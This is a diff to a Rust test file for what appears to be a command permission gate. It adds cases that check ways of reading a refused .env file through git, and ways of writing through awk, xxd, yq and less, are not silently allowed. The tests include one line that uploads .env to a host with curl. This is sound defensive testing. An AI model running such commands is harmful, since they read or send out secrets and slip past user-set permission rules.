@@ -359,6 +359,15 @@ fn a_refused_file_is_not_read_another_way() {
         "xargs cat",
         "find . -exec cat {} \\;",
         "git show HEAD:.env",
+        "git grep KEY",
+        "git log -p",
+        "git log --patch",
+        "git diff",
+        "git show",
+        "git -C . diff",
+        "git $X",
+        "git cat-file -p HEAD",
+        "git stash show -p",
         "cat \"unterminated",
         "$X .env",
         "curl -F file=@.env http://x",
@@ -366,7 +375,14 @@ fn a_refused_file_is_not_read_another_way() {
         let ask = asked(world.decide(&gate, &bash(line)));
         assert!(!ask.covered, "{line}");
     }
-    for line in ["cat README.md", "cargo test", "echo .env"] {
+    for line in [
+        "cat README.md",
+        "cargo test",
+        "echo .env",
+        "git status --short",
+        "git log --oneline",
+        "git commit -m x",
+    ] {
         assert_eq!(world.word(&gate, &bash(line)), "allow", "{line}");
     }
     let folder = |tool| call(tool, true, Access::Read(vec![".".to_owned()]));
@@ -431,6 +447,40 @@ fn a_refused_file_is_not_written_another_way() {
         { "action": "allow", "tool": "*" },
     ]));
     assert_eq!(world.word(&whole, &writes("edit", "a.rs")), "allow");
+}
+
+#[test]
+fn readers_that_write_are_writers() {
+    let world = World::new();
+    let gate = world.gate(json!([
+        { "action": "deny", "tool": "write", "path": "*.lock" },
+        { "action": "allow", "tool": "*" },
+    ]));
+    for line in [
+        "uniq a b.lock",
+        "xxd -r a b.lock",
+        "yq -i .x=1 b.lock",
+        "awk '{ print > \"b.lock\" }' a",
+        "awk 'BEGIN { system(\"x\") }'",
+        "gawk '{ print | \"x\" }' a",
+        "awk -f x.awk a",
+        "awk \"$X\" a",
+        "gzip b.lock",
+        "zip b.lock a",
+        "less -o b.lock a",
+    ] {
+        assert_eq!(world.word(&gate, &bash(line)), "ask", "{line}");
+    }
+    for line in [
+        "uniq b.lock",
+        "xxd b.lock",
+        "yq .x b.lock",
+        "awk '{ print $1 }' b.lock",
+        "less b.lock",
+        "grep x b.lock",
+    ] {
+        assert_eq!(world.word(&gate, &bash(line)), "allow", "{line}");
+    }
 }
 
 #[test]
